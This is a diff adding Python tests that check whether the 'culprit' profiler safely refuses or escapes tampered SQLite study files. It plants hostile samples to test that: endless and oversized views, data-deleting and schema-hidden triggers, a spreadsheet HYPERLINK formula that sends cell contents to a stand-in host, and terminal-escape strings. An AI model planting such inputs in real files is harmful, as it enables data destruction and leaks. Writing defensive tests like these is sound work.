@@ -1,0 +1,211 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+# Studies made by a stranger: another schema is refused before anything of it is used; in our schema values that nobody
+# wrote are shown as missing. No command crashes, hangs or takes memory out of proportion.
+
+import csv
+import io
+import json
+import os
+import random
+import shutil
+import sqlite3
+import subprocess
+import sys
+import tempfile
+import unittest
+from contextlib import closing
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
+
+import culprit  # noqa: E402
+import loosely  # noqa: E402
+
+SAMPLE = os.path.join(culprit.ROOT, "data", "sample", "sample.culprit")
+ENDLESS = "WITH RECURSIVE c (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM c)"
+SEED = 7
+ODD = (None, -1, 2 ** 63 - 1, -2 ** 63, 1.5e308, float("inf"), "x", "", b"\x00\xff", "=1+1", "\x1b[31m\u202e\n", "[1, {}]")
+
+
+class Stranger(unittest.TestCase):
+    def setUp(self):
+        self.folder = self.enterContext(tempfile.TemporaryDirectory())
+        self.study = os.path.join(self.folder, "s.culprit")
+        shutil.copy(SAMPLE, self.study)
+        os.chmod(self.study, 0o644)
+        self.html = os.path.join(self.folder, "s.html")
+
+    def content(self):
+        with open(self.study, "rb") as file:
+            return file.read()
+
+    def reading(self):
+        study = ("--study", self.study)
+        return [("runs", *study), ("runs", *study, "--csv"), ("outliers", *study), ("outliers", *study, "--json"),
+                ("functions", *study), ("functions", *study, "--json"), ("stalls", *study), ("stalls", *study, "--json"),
+                ("verdict", *study), ("verdict", *study, "--json"), ("show", *study, "1"), ("show", *study, "8", "--json"),
+                ("latency", *study), ("latency", *study, "--json"), ("compare", *study, "slides/off-1", "slides/on-1"),
+                ("check", *study), ("report", *study, "--out", self.html)]
+
+    def run_(self, arguments):
+        try:
+            return culprit.run(*arguments, before=("prlimit", "--cpu=20", f"--as={2 << 30}"), timeout=60)
+        except subprocess.TimeoutExpired:
+            self.fail(f"culprit {arguments[0]} does not end")
+
+    def assert_refused(self, *words):
+        before = self.content()
+        writing = [("import", "--study", self.study, os.path.join(culprit.ROOT, "tests", "data", "count-1.dat")),
+                   ("merge", "--study", os.path.join(self.folder, "mine.culprit"), self.study)]
+        for arguments in self.reading() + writing:
+            with self.subTest(arguments[0]):
+                result = self.run_(arguments)
+                self.assertEqual((result.status, len(result.error_lines())), (2, 1), result.stderr)
+                for word in (self.study, *words):
+                    self.assertIn(word, result.stderr)
+        self.assertEqual(self.content(), before)
+
+    def assert_survives(self):
+        """Every command says what it can, or in a line why it cannot."""
+        for arguments in self.reading():
+            with self.subTest(arguments[0]):
+                result = self.run_(arguments)
+                self.assertIn(result.status, (0, 1, 2), result.stderr)
+                self.assertLessEqual(len(result.error_lines()), 1, result.stderr)
+                self.assertNotIn("\x1b", result.stdout + result.stderr)
+                if "--json" in arguments and result.status == 0:
+                    json.loads(result.stdout)
+
+
+class Schema(Stranger):
+    def execute(self, *statements):
+        with closing(sqlite3.connect(self.study, isolation_level=None)) as database:
+            database.execute("PRAGMA journal_mode = DELETE")
+            database.execute("PRAGMA legacy_alter_table = ON")
+            for statement in statements:
+                database.execute(statement)
+
+    def columns(self, table):
+        with closing(sqlite3.connect(self.study)) as database:
+            return [row[1] for row in database.execute(f"PRAGMA table_info ({table})")]
+
+    def test_a_view_that_does_not_end_in_the_place_of_a_table(self):
+        columns = ", ".join(f"{'i' if name == 'run_id' else f'run0.{name}'} AS {name}" for name in self.columns("run"))
+        self.execute("ALTER TABLE run RENAME TO run0", f"CREATE VIEW run AS {ENDLESS} SELECT {columns} FROM c, run0")
+        self.assert_refused("schema")
+
+    def test_a_view_of_large_values(self):
+        columns = ", ".join(f"{'zeroblob (900000000)' if name == 'load' else f'run0.{name}'} AS {name}"
+                            for name in self.columns("run"))
+        self.execute("ALTER TABLE run RENAME TO run0", f"CREATE VIEW run AS SELECT {columns} FROM run0")
+        self.assert_refused("schema")
+
+    def test_one_of_our_views_with_other_words(self):
+        self.execute("DROP VIEW outlier", f"CREATE VIEW outlier AS {ENDLESS} SELECT i AS capture_id FROM c")
+        self.assert_refused("view outlier")
+
+    def test_a_trigger(self):
+        self.execute("CREATE TRIGGER evil AFTER UPDATE ON capture BEGIN DELETE FROM run; END")
+        self.assert_refused("trigger evil")
+
+    def test_one_of_our_triggers_with_other_words(self):
+        self.execute("DROP TRIGGER capture_removed",
+                     "CREATE TRIGGER capture_removed BEFORE DELETE ON capture BEGIN DELETE FROM run; END")
+        self.assert_refused("trigger capture_removed")
+
+    def test_a_trigger_that_hides(self):
+        self.execute("CREATE TRIGGER evil AFTER INSERT ON host BEGIN DELETE FROM run; END", "PRAGMA writable_schema = ON",
+                     "UPDATE sqlite_schema SET name = 'sqlite_autoindex_evil' WHERE name = 'evil'")
+        self.assert_refused("sqlite_autoindex_evil")
+
+    def test_another_table_column_or_index(self):
+        for statement in ("CREATE TABLE mine (x)", "ALTER TABLE stall ADD COLUMN mine TEXT",
+                          "ALTER TABLE stall DROP COLUMN after_event",
+                          "ALTER TABLE stall ADD COLUMN mine BLOB AS (zeroblob (length_ns))",
+                          "CREATE INDEX mine ON run (abs (period_ns))", "CREATE VIRTUAL TABLE mine USING fts5 (x)",
+                          "DROP INDEX capture_by_run", "DROP TABLE run_sample"):
+            with self.subTest(statement):
+                shutil.copy(SAMPLE, self.study)
+                os.chmod(self.study, 0o644)
+                self.execute(statement)
+                self.assert_refused("schema")
+
+    def test_tables_that_ask_for_less(self):
+        tables = loosely.schema(self.study)
+        for asked in loosely.ASKS:
+            with self.subTest(asked):
+                loosely.change_schema(self.study, {name: sql.replace(asked, "") for name, sql in tables.items()})
+                self.assert_refused("table")
+                loosely.change_schema(self.study, tables)
+
+    def test_statistics_of_the_planner_are_nobody_s(self):
+        self.execute("ANALYZE")
+        self.assertEqual(self.run_(("runs", "--study", self.study)).status, 0)
+
+    def test_an_old_study_with_a_trigger_is_left_as_it_was(self):
+        self.execute("PRAGMA user_version = 3",
+                     f"CREATE TRIGGER evil AFTER UPDATE ON capture BEGIN SELECT count (*) FROM ({ENDLESS} SELECT i FROM c); END")
+        before = self.content()
+        result = self.run_(("runs", "--study", self.study))
+        self.assertEqual((result.status, len(result.error_lines())), (2, 1), result.stderr)
+        with closing(sqlite3.connect(self.study)) as database:
+            self.assertEqual(database.execute("PRAGMA user_version").fetchone(), (3,))
+        self.assertEqual(self.content()[100:], before[100:])
+
+
+class NoFile(Stranger):
+    def test_a_pipe_is_no_study(self):
+        os.unlink(self.study)
+        os.mkfifo(self.study)
+        for arguments in (("runs", "--study", self.study), ("import", "--study", self.study, SAMPLE)):
+            result = culprit.run(*arguments, timeout=20)
+            self.assertEqual((result.status, len(result.error_lines())), (2, 1), result.stderr)
+            self.assertIn("regular file", result.stderr)
+
+
+class Values(Stranger):
+    def test_a_function_without_a_name(self):
+        loosely.write(self.study, ("UPDATE function SET name = NULL, module = NULL", ()))
+        self.assert_survives()
+        result = self.run_(("verdict", "--study", self.study, "--json"))
+        self.assertEqual(result.status, 0, result.stderr)
+
+    def test_names_that_spreadsheets_would_run(self):
+        names = ['=HYPERLINK("http://x/?"&A1)', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "plain"]
+        with closing(sqlite3.connect(self.study, isolation_level=None)) as database:
+            for number, name in zip((1, 2, 3), names):
+                database.execute("UPDATE run SET name = ?, load = ? WHERE run_id = ?", (name, names[number + 2], number))
+        result = self.run_(("runs", "--study", self.study, "--csv"))
+        cells = [cell for row in csv.reader(io.StringIO(result.stdout), strict=True) for cell in row]
+        for name in names[:-1]:
+            self.assertIn("'" + name.replace("\t", "?"), [cell.replace("\t", "?") for cell in cells])
+        self.assertIn("plain", cells)
+        self.assertEqual([cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t")], [])
+
+    def test_numbers_too_large_to_add_up(self):
+        loosely.write(self.study, ("UPDATE window SET latency_ns = ?1, end_ns = ?1, start_ns = -?1", (2 ** 63 - 1,)),
+                      ("UPDATE outlier_cost SET self_ns = ?1, calls = ?1", (2 ** 63 - 1,)))
+        self.assert_survives()
+        result = self.run_(("check", "--study", self.study))
+        self.assertEqual(result.status, 2)
+        self.assertIn("damaged", result.stderr)
+
+    def test_values_of_every_kind_everywhere(self):
+        dice = random.Random(SEED)
+        tables = [name for name in loosely.schema(self.study) if not name.startswith("sqlite_")]
+        with closing(sqlite3.connect(self.study)) as database:
+            columns = [(table, row[1]) for table in tables for row in database.execute(f"PRAGMA table_info ({table})")
+                       if not row[5]]
+        rowids = {table: "WITHOUT ROWID" not in sql for table, sql in loosely.schema(self.study).items()}
+        for turn in range(8):
+            chosen = dice.sample(columns, (1, 3, 30)[turn % 3])
+            shutil.copy(SAMPLE, self.study)
+            os.chmod(self.study, 0o644)
+            with self.subTest(turn=turn, chosen=chosen):
+                loosely.write(self.study, *(
+                    (f"UPDATE OR IGNORE {table} SET {column} = ? WHERE {'rowid % 2' if rowids[table] else '1'}",
+                     (dice.choice(ODD),)) for table, column in chosen))
+                self.assert_survives()
+
+
+if __name__ == "__main__":
+    unittest.main()
